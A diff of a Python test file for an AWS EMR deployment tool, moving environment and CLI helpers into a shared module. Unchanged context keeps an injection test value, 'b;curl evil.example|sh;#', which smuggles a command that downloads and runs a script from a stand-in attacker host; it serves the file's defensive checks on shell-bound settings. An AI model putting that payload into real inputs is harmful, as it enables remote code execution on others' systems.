@@ -7,7 +7,6 @@ settings that reach a shell or a URL validated; steps' arguments as lists; hashe
 import json
 import os
 import subprocess
-import sys
 import urllib.request
 from pathlib import Path
 
@@ -15,14 +14,12 @@ import pytest
 
 from fruits_assets.emr import jupyterhub, roles
 from fruits_assets.emr.spec import ClusterSpec
-from fruits_assets_tests.conftest import RUN_DIR, run_env
-from fruits_assets_tests.emr.account import EMR_MANAGED_TAG, prepare_account, private_subnet
+from fruits_assets_tests.emr.account import EMR_MANAGED_TAG, cli, emr_env, prepare_account, private_subnet
 from fruits_assets_tests.emr_harness.harness import MotoAws
 
 BUCKET = "fruits-assets-privilege-test"
 REGION = "eu-west-3"
 KMS_KEY = f"arn:aws:kms:{REGION}:111122223333:key/test"  # AWS's documentation placeholder account
-CLI = str(Path(sys.executable).with_name("fruits-assets"))
 EMR_DIR = Path(roles.__file__).resolve().parent
 INJECTION = "b;curl evil.example|sh;#"
 OPEN = ("0.0.0.0/0", "::/0")
@@ -43,26 +40,7 @@ def aws():
 
 
 def env_for(tmp_path, aws, **extra):
-    env = run_env(
-        tmp_path,
-        tmp_path,
-        "random",
-        FRUITS_DEPLOYMENT="emr",
-        FRUITS_S3_BUCKET=BUCKET,
-        FRUITS_AWS_REGION=REGION,
-        FRUITS_EMR_KMS_KEY_ARN=KMS_KEY,
-        FRUITS_EMR_SUBNET_IDS=aws.subnet,
-        **aws.env,
-    )
-    for name in list(env):
-        if name.startswith("FRUITS_EMR_") and name not in ("FRUITS_EMR_KMS_KEY_ARN", "FRUITS_EMR_SUBNET_IDS"):
-            env.pop(name)
-    env.update(extra)
-    return {k: v for k, v in env.items() if v is not None}
-
-
-def cli(args, env):
-    return subprocess.run([CLI, *args], env=env, capture_output=True, text=True, timeout=300, cwd=RUN_DIR)
+    return emr_env(tmp_path, aws, BUCKET, REGION, KMS_KEY, **extra)
 
 
 def one_line_error(proc, *expected):
